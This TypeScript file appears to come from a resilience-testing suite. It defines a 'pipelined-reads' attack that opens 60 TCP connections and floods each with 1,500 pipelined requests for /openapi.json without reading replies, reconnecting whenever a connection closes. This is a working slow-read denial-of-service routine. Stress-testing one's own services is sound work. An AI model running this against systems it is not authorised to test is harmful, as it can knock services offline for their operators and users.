import { connect } from 'node:net'
import type { Attack } from './attack.ts'

const CONNECTIONS = 60
const REQUESTS = 1_500

/** Needs no token. */
export const pipelinedReads: Attack = {
  name: 'pipelined-reads',
  what: `${CONNECTIONS} connections send ${REQUESTS} requests for the description each, again and again, and read nothing`,
  async run({ host, port }) {
    const requests = 'GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(REQUESTS)
    const open = () => {
      const socket = connect(port, host)
      socket.pause()
      socket.on('error', () => undefined)
      // A connection that was cut is replaced.
      socket.on('close', () => setTimeout(open, 100))
      socket.write(requests)
    }
    for (let opened = 0; opened < CONNECTIONS; opened++) open()
    await new Promise(() => undefined)
  },
}
